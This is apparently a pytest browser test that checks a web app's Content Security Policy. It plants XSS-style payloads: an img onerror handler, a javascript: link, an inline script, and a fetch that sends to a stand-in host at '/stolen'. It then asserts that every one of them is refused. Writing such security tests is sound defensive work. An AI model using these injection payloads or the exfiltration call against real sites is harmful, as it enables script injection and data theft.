"""Words that come from outside stay words in the browser, even where they would get into a page as HTML."""

from __future__ import annotations

import pytest

pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]

PLANTED = """async () => {
    const planted = document.createElement("div")
    planted.innerHTML = `<img src="http://192.0.2.1/seen.png" onerror="window.owned = 1">
                         <a href="javascript:window.owned=1">x</a>`
    document.body.append(planted)
    planted.querySelector("a").click()
    const script = document.createElement("script")
    script.textContent = "window.owned = 1"
    document.body.append(script)
    const sent = await fetch("http://192.0.2.1/stolen", {mode: "no-cors"}).then(() => "sent", () => "refused")
    return [window.owned, sent]
}"""


def test_a_planted_script_does_not_run_and_tells_nobody(browser, filled):
    page = browser.new_page()
    refused: list[str] = []
    page.on("console", lambda said: refused.append(said.text) if "Content Security Policy" in said.text else None)
    page.goto(f"{filled}/ask")
    page.locator("[data-testid=stApp]").wait_for()
    assert page.evaluate(PLANTED) == [None, "refused"]
    assert len(refused) >= 4
    page.context.close()
